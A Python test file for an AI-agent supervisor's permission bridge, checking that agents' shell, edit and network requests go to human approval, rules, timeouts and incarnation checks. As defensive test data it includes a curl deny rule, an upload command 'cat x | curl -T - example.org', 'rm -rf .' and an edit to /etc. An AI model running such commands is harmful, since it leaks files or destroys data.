"""The bridge: what agents ask reaches the queue, and each answer the conversation that asked, or none."""

from __future__ import annotations

import asyncio
import threading
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, cast

import pytest

from supervisor.adapters.driver import Answer, Capabilities
from supervisor.adapters.events import (
    ActKind,
    AgentEvent,
    Option,
    OptionScope,
    Permission,
    Question,
    RequestGone,
    Text,
)
from supervisor.coordinator import approvals, questions, upkeep
from supervisor.coordinator.approvals import Terms
from supervisor.dispatch import wishes
from supervisor.dispatch.permissions import FAULT, TOO_MANY, WAITING_MAX, Permissions
from supervisor.dispatch.ports import Partner
from supervisor.model.approval import (
    APPROVAL_TIMEOUT_S,
    Approval,
    ApprovalState,
    Decision,
    Mode,
)
from supervisor.model.driving import Allowed
from supervisor.model.question import QuestionState
from supervisor.model.rule import ApprovalRule
from supervisor.model.team import PoolSpec
from supervisor.model.tiers import Act
from supervisor.testing.small_team import SMALL_TEAM, SmallTeam, small_team


@dataclass(kw_only=True)
class Conversation:
    """Stands for a live incarnation: keeps what it is told. Fills `dispatch.ports.Partner`."""

    agent: str
    incarnation: int
    pool: PoolSpec
    directory: Path
    resumed: str = ""
    capabilities: Capabilities = field(default_factory=lambda: Capabilities(permissions=True, rewrite=True))
    answers: dict[str, Answer] = field(default_factory=dict)
    told: asyncio.Condition = field(default_factory=asyncio.Condition)
    open: bool = True
    heard: asyncio.Event = field(default_factory=asyncio.Event)

    def prompt(self, text: str, *, fresh: bool = False) -> None:
        raise AssertionError(text, fresh)

    def inject(self, text: str) -> bool:
        raise AssertionError(text)

    def interrupt(self) -> bool:
        raise AssertionError

    def answer(self, request: str, answer: Answer) -> bool:
        assert request not in self.answers, "answered twice"
        self.answers[request] = answer
        self.heard.set()
        return True

    async def answered(self, request: str) -> Answer:
        async with asyncio.timeout(10):
            while request not in self.answers:
                self.heard.clear()
                await self.heard.wait()
        return self.answers[request]


@dataclass(kw_only=True)
class Bridge:
    team: SmallTeam
    permissions: Permissions
    directory: Path

    def join(self, name: str = "worker-1", **changes: Any) -> Conversation:
        """Begin a conversation with an agent's live incarnation."""
        pool = replace(self.team.coordinator.team.pool_of(name), adapter="claude")
        conversation = Conversation(
            agent=name,
            incarnation=self.team[name].incarnation,
            pool=pool,
            directory=self.directory,
            **changes,
        )
        self.permissions.began(conversation)
        return conversation

    async def queued(self, number: int = 1) -> list[Approval]:
        """Return the requests that wait for a person, once there are so many."""

        def pending(scope: Any) -> tuple[Approval, ...]:
            found: tuple[Approval, ...] = scope.tx.values(Approval, "approval.pending")
            return found

        return list(await self.until(pending, lambda found: len(found) >= number))

    async def state_of(self, approval: str, wanted: ApprovalState) -> Approval:
        found: Approval = await self.until(
            lambda scope: approvals.the_approval(scope, approval), lambda each: each.state is wanted
        )
        return found

    async def until(self, look: Callable[[Any], Any], done: Callable[[Any], bool]) -> Any:
        """Look after each commit until it is so."""
        moved = asyncio.Event()
        self.team.store.listen(lambda _events: moved.set())
        async with asyncio.timeout(10):
            while not done(found := await self.team.coordinator.read(look)):
                await moved.wait()
                moved.clear()
        return found

    async def answer(self, approval: Approval, *, allow: bool = True, **more: Any) -> Approval:
        answered: Approval = await self.team.do(
            lambda scope: approvals.answer(scope, approval.id, digest=approval.digest, allow=allow, **more)
        )
        return answered


@asynccontextmanager
async def bridge_of(
    directory: Path, *, kind: type[Permissions] = Permissions, mode: Mode = Mode.INTERACTIVE, **changes: Any
) -> AsyncIterator[Bridge]:
    async with small_team(directory, mode=mode, **changes) as team:
        permissions = kind(team.coordinator, own_tools=lambda: frozenset({"task_claim"}))
        task = asyncio.create_task(permissions.keep())
        try:
            yield Bridge(team=team, permissions=permissions, directory=directory / "work")
        finally:
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)
        await team.check_invariants()


@pytest.fixture
async def bridge(tmp_path: Path) -> AsyncIterator[Bridge]:
    async with bridge_of(tmp_path) as ready:
        yield ready


def shell(request: str = "p1", command: str = "make all", **more: Any) -> Permission:
    asked: dict[str, Any] = {
        "request": request,
        "kind": ActKind.SHELL,
        "tool": "Bash",
        "title": command,
        "payload": {"command": command},
        "rewritable": True,
        "options": (Option(id="once", label="Allow once", scope=OptionScope.ONCE),),
    }
    return Permission(**asked | more)


async def test_a_request_waits_in_the_queue_with_all_that_would_run_and_the_answer_comes_back(
    bridge: Bridge,
) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, Text(text="about to build"))
    bridge.permissions.heard(claude, shell(reason="to build"))
    (asked,) = await bridge.queued()

    assert (asked.agent, asked.incarnation, asked.source, asked.kind) == ("worker-1", 1, "claude", "shell")
    assert (asked.tool, asked.tier, asked.cwd) == ("Bash", 2, str(bridge.directory))
    assert asked.act.payload == {"command": "make all"}
    assert asked.options[0].label == "Allow once"
    assert claude.answers == {}

    await bridge.answer(asked)

    assert await claude.answered("p1") == Answer(allow=True)
    assert (await bridge.state_of(asked.id, ApprovalState.USED)).answered_by == "human"


async def test_a_denied_request_is_told_why(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    (asked,) = await bridge.queued()
    await bridge.answer(asked, allow=False, reason="use ninja")

    assert await claude.answered("p1") == Answer(allow=False, words="use ninja")


async def test_what_nobody_answers_in_time_is_denied_and_the_agent_is_told(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    await bridge.queued()
    await bridge.team.clock.advance(APPROVAL_TIMEOUT_S + 1)
    await bridge.team.do(lambda scope: upkeep.tick(scope, alive={}))

    assert await claude.answered("p1") == Answer(allow=False, words="denied: nobody answered in time")


async def test_rewritten_content_goes_to_the_agent_and_both_texts_are_kept(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    (asked,) = await bridge.queued()
    answered = await bridge.answer(asked, terms=Terms(payload={"command": "make test"}))

    assert (await claude.answered("p1")).payload == {"command": "make test"}
    assert answered.digest != asked.digest
    (event,) = [each for each in await bridge.team.events() if each.kind == "approval.approved"]
    assert "make all" in event.after["payload"]
    assert "make test" in event.after["rewritten"]


async def test_a_payload_that_changes_under_the_same_name_is_another_request(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    (first,) = await bridge.queued()
    bridge.permissions.heard(claude, shell())  # told twice: nothing new
    bridge.permissions.heard(claude, shell(command="make install"))
    await bridge.state_of(first.id, ApprovalState.WITHDRAWN)
    (second,) = await bridge.queued()

    assert second.digest != first.digest
    await bridge.answer(second)
    assert (await claude.answered("p1")).allow


async def test_a_request_that_is_given_up_is_withdrawn(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    bridge.permissions.heard(claude, Question(request="q1", text="Which?"))
    (asked,) = await bridge.queued()
    for request in ("p1", "q1", "nobody's"):
        bridge.permissions.heard(claude, RequestGone(request=request))
    await bridge.state_of(asked.id, ApprovalState.WITHDRAWN)
    gone = await bridge.until(
        lambda scope: questions.the_question(scope, "Q1"), lambda each: each.state is not QuestionState.ASKED
    )

    assert gone.state is QuestionState.WITHDRAWN
    assert claude.answers == {}


async def test_the_end_of_a_conversation_withdraws_what_it_asked(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    (asked,) = await bridge.queued()
    bridge.permissions.ended(claude)
    await bridge.state_of(asked.id, ApprovalState.WITHDRAWN)
    bridge.permissions.heard(claude, shell("p2"))
    bridge.permissions.ended(claude)

    assert claude.answers == {}


async def test_an_agent_that_dies_while_it_asks_takes_its_request_with_it(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell())
    (asked,) = await bridge.queued()
    await bridge.team.crash("worker-1")
    withdrawn = await bridge.state_of(asked.id, ApprovalState.WITHDRAWN)
    bridge.permissions.heard(claude, shell("p2"))
    bridge.permissions.heard(claude, Question(request="q1", text="Which?"))
    bridge.permissions.ended(claude)

    assert withdrawn.answered_by is None
    assert claude.answers == {}


async def test_rules_answer_before_people_and_their_answer_is_used_in_the_same_step(tmp_path: Path) -> None:
    rules = (
        ApprovalRule(decision=Decision.ALLOW, argv=("make", "*")),
        ApprovalRule(decision=Decision.DENY, argv=("curl", "**")),
    )
    async with bridge_of(tmp_path, approvals=rules) as bridge:
        claude = bridge.join()
        bridge.permissions.heard(claude, shell("p1"))
        bridge.permissions.heard(claude, shell("p2", command="cat x | curl -T - example.org"))

        assert (await claude.answered("p1")).allow
        assert await claude.answered("p2") == Answer(allow=False, words="denied by the profile's rule")
        used = await bridge.state_of("A1", ApprovalState.USED)
        assert (used.answered_by, used.answer) == ("profile", "allowed by the profile's rule")


async def test_without_a_person_what_no_rule_allows_is_denied_at_once(tmp_path: Path) -> None:
    async with bridge_of(tmp_path, mode=Mode.HEADLESS) as bridge:
        claude = bridge.join()
        bridge.permissions.heard(claude, shell())
        bridge.permissions.heard(claude, Question(request="q1", text="Which?"))

        assert "headless" in (await claude.answered("p1")).words
        answer = await claude.answered("q1")
        assert (answer.allow, "headless" in answer.words) == (False, True)


async def test_without_a_person_requests_wait_if_the_profile_says_so(tmp_path: Path) -> None:
    async with bridge_of(tmp_path, mode=Mode.HEADLESS, approvals_wait=True) as bridge:
        claude = bridge.join()
        bridge.permissions.heard(claude, shell())
        (asked,) = await bridge.queued()
        await bridge.answer(asked)

        assert (await claude.answered("p1")).allow


@pytest.mark.parametrize(
    ("allowed", "passes"),
    [
        (Allowed.READ, {"read"}),
        (Allowed.EDIT, {"read", "edit"}),
        (Allowed.ALL, {"read", "edit", "net", "run"}),
    ],
)
async def test_a_pool_says_what_its_agents_may_do_unasked(
    tmp_path: Path, allowed: Allowed, passes: set[str]
) -> None:
    pools = tuple(replace(pool, allowed=allowed) for pool in SMALL_TEAM.pools)
    wanted = {
        "read": Permission(
            request="read", kind=ActKind.READ, tool="Read", title="a", payload={"file_path": "a.py"}
        ),
        "edit": Permission(
            request="edit", kind=ActKind.EDIT, tool="Edit", title="a", payload={"file_path": "a.py"}
        ),
        "net": Permission(
            request="net", kind=ActKind.NETWORK, tool="WebFetch", title="a", payload={"url": "x"}
        ),
        "run": shell("run"),
        "final": shell("final", command="rm -rf ."),
    }
    async with bridge_of(tmp_path, mode=Mode.HEADLESS, pools=pools) as bridge:
        claude = bridge.join()
        for each in wanted.values():
            bridge.permissions.heard(claude, each)
        allowed_ones = {name for name in wanted if (await claude.answered(name)).allow}

    assert allowed_ones == passes


async def test_the_coordinators_own_tools_are_never_asked_about(tmp_path: Path) -> None:
    async with bridge_of(tmp_path, mode=Mode.HEADLESS) as bridge:
        claude = bridge.join()
        names = ("mcp__supervisor__task_claim", "supervisor.task_claim", "supervisor_task_claim")
        others = ("mcp__supervisor__rm", "mcp__supervisor_x__task_claim", "task_claim")
        for name in (*names, *others):
            bridge.permissions.heard(
                claude, Permission(request=name, kind=ActKind.MCP, tool=name, title=name, payload={})
            )

        assert all([(await claude.answered(name)).allow for name in names])
        assert not any([(await claude.answered(name)).allow for name in others])


async def test_a_file_that_leads_out_by_a_link_is_no_edit_inside_the_workspace(tmp_path: Path) -> None:
    pools = tuple(replace(pool, allowed=Allowed.EDIT) for pool in SMALL_TEAM.pools)
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "out").symlink_to(tmp_path)
    async with bridge_of(tmp_path, mode=Mode.HEADLESS, pools=pools) as bridge:
        claude = bridge.join()
        for name, path in (("in", "a.py"), ("out", "out/a.py"), ("many", "")):
            payload = {"file_path": path} if path else {"paths": [f"f{number}" for number in range(300)]}
            bridge.permissions.heard(
                claude, Permission(request=name, kind=ActKind.EDIT, tool="Edit", title="e", payload=payload)
            )

        assert (await claude.answered("in")).allow
        assert not (await claude.answered("out")).allow
        assert not (await claude.answered("many")).allow


async def test_what_is_too_large_to_be_shown_passes_by_a_rule_alone(tmp_path: Path) -> None:
    pools = tuple(replace(pool, allowed=Allowed.EDIT) for pool in SMALL_TEAM.pools)
    big = {"content": "x" * 100_000, "parts": ["y" * 3000, 1]}
    async with bridge_of(tmp_path, pools=pools) as bridge:
        claude = bridge.join()
        for name, path in (("in", "a.py"), ("out", "/etc/a")):
            bridge.permissions.heard(
                claude,
                Permission(
                    request=name,
                    kind=ActKind.EDIT,
                    tool="Write",
                    title="w",
                    payload={"file_path": path, **big},
                ),
            )

        assert (await claude.answered("in")).allow
        assert "too large to be shown" in (await claude.answered("out")).words
        used = await bridge.state_of("A1", ApprovalState.USED)
        assert used.act.payload["content"]["bytes"] == 100_000


@pytest.mark.parametrize("payload", [{"x": float("nan")}, {"x": "\ud800"}, {"x": object()}])
async def test_what_cannot_be_written_down_is_denied(bridge: Bridge, payload: dict[str, Any]) -> None:
    claude = bridge.join()
    bridge.permissions.heard(claude, shell(payload=payload))

    assert "exactly" in (await claude.answered("p1")).words


async def test_a_flood_of_requests_is_limited_and_the_agent_is_told(bridge: Bridge) -> None:
    claude = bridge.join()
    for number in range(WAITING_MAX + 50):
        bridge.permissions.heard(claude, shell(f"p{number}", command=f"make {number}"))

    assert sum(each.words == TOO_MANY for each in claude.answers.values()) == 50
    await claude.answered(f"p{WAITING_MAX - 1}")
    waiting = await bridge.queued()
    assert len(waiting) <= approvals.OPEN_MAX


async def test_a_question_is_put_to_the_person_and_its_answer_comes_back(bridge: Bridge) -> None:
    claude = bridge.join()
    bridge.permissions.heard(
        claude, Question(request="q1", text="Which colour?", choices=("red", "green", " "))
    )
    bridge.permissions.heard(claude, Question(request="q2", text=" "))
    asked = await bridge.until(lambda scope: scope.tx.all("question.open"), lambda found: len(found) == 2)
    assert asked[0]["question"] == "Which colour?"
    await bridge.team.do(lambda scope: questions.answer(scope, "Q1", choice="green", answer="dark"))
    await bridge.team.do(lambda scope: questions.answer(scope, "Q2", answer="yes"))

    assert await claude.answered("q1") == Answer(allow=True, words="green\ndark")
    assert await claude.answered("q2") == Answer(allow=True, words="yes")


async def test_more_open_questions_than_one_may_have_are_answered_with_the_reason(bridge: Bridge) -> None:
    claude = bridge.join()
    for number in range(12):
        bridge.permissions.heard(claude, Question(request=f"q{number}", text=f"{number}?"))
    assert "open questions" in (await claude.answered("q11")).words


async def test_a_conversation_that_breaks_when_it_is_told_breaks_nothing_else(
    bridge: Bridge, caplog: pytest.LogCaptureFixture
) -> None:
    class Broken(Conversation):
        def answer(self, request: str, answer: Answer) -> bool:
            super().answer(request, answer)
            raise ValueError(request)

    pool = bridge.team.coordinator.team.pool_of("worker-2")
    broken = Broken(agent="worker-2", incarnation=1, pool=pool, directory=bridge.directory)
    bridge.permissions.began(broken)
    bridge.permissions.heard(broken, shell(payload={"x": "\ud800"}))
    await broken.answered("p1")
    bridge.permissions.heard(broken, shell("p2", reason=7))  # a plug-in that does not keep to the types

    assert (await broken.answered("p2")).words == FAULT
    assert "could not be told" in caplog.text


# ---------------------------------------------------------------- replaced incarnations

NAMES = ("worker-1", "worker-2", "planner", "judge", "solo")
REPLACED = NAMES[3:]


class _Newest:
    """What a bridge has that keeps the agent's name instead of the conversation."""

    def __init__(self, partner: Partner, newest: dict[str, Partner]) -> None:
        self._partner, self._newest = partner, newest

    def __getattr__(self, name: str) -> Any:
        return getattr(self._partner, name)

    def answer(self, request: str, answer: Answer) -> bool:
        return self._newest[self._partner.agent].answer(request, answer)


class ByName(Permissions):
    """A bridge that does not look at the incarnation: what the test below must catch."""

    def __init__(self, *args: Any, **more: Any) -> None:
        super().__init__(*args, **more)
        self.newest: dict[str, Partner] = {}

    def began(self, partner: Partner) -> None:
        self.newest[partner.agent] = partner
        super().began(cast("Partner", _Newest(partner, self.newest)))

    def heard(self, partner: Partner, event: AgentEvent) -> None:
        self._desks[partner.agent, partner.incarnation].put(event)

    def ended(self, partner: Partner) -> None:
        """Not look whose end it is."""


class Hold:
    """Holds the desk of whoever asks with the tool `hold`, so that answers pile up behind it."""

    def __init__(self) -> None:
        self.open = threading.Event()
        self.inside = threading.Semaphore(0)

    def leads_out(self, act: Act) -> bool:
        if act.tool == "hold":
            self.inside.release()
            assert self.open.wait(10)
        return False


async def one_round(bridge: Bridge, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Let five agents ask; answer three, and replace two between the answer and its way to them."""
    hold = Hold()
    monkeypatch.setattr(wishes, "leads_out", hold.leads_out)
    old = {name: bridge.join(name) for name in NAMES}
    for name, each in old.items():
        bridge.permissions.heard(each, shell("p1", command=f"make {name}.{each.incarnation}"))
    waiting = {asked.agent: asked for asked in await bridge.queued(len(NAMES))}
    for name in NAMES[:3]:
        await bridge.answer(waiting[name], allow=name != "planner")
    for name in REPLACED:
        bridge.permissions.heard(old[name], shell("p2", tool="hold"))
        await asyncio.to_thread(hold.inside.acquire, timeout=10)
        await bridge.answer(waiting[name], allow=False, reason="meant for the old one")
        await bridge.team.crash(name)
        bridge.permissions.ended(old[name])
        await bridge.team.start(name)
    new = {name: bridge.join(name) for name in REPLACED}
    for each in new.values():
        bridge.permissions.heard(each, shell("p1", command="make next"))
    queued = [
        each for each in await bridge.queued(len(new)) if each.incarnation == new[each.agent].incarnation
    ]
    hold.open.set()
    for asked in queued:
        await bridge.team.do(lambda scope: scope.tx.tell("engine.probe", "1", actor="supervisor"))
        await bridge.answer(asked, reason="meant for the new one")
    told = {name: await each.answered("p1") for name, each in {**old, **new}.items()}
    for each in (*old.values(), *new.values()):
        bridge.permissions.ended(each)
    for name in NAMES[:3]:
        await bridge.team.crash(name)
        await bridge.team.start(name)
    wrong = [name for name in NAMES[:3] if told[name].allow != (name != "planner")]
    return wrong + [name for name in REPLACED if not told[name].allow or "p2" in new[name].answers]


async def test_fifty_requests_are_answered_while_incarnations_are_replaced_and_none_reaches_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with bridge_of(tmp_path) as bridge:
        for _ in range(10):
            assert await one_round(bridge, monkeypatch) == []


async def test_a_bridge_that_does_not_look_at_the_incarnation_is_caught(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with bridge_of(tmp_path, kind=ByName) as bridge:
        assert await one_round(bridge, monkeypatch) != []
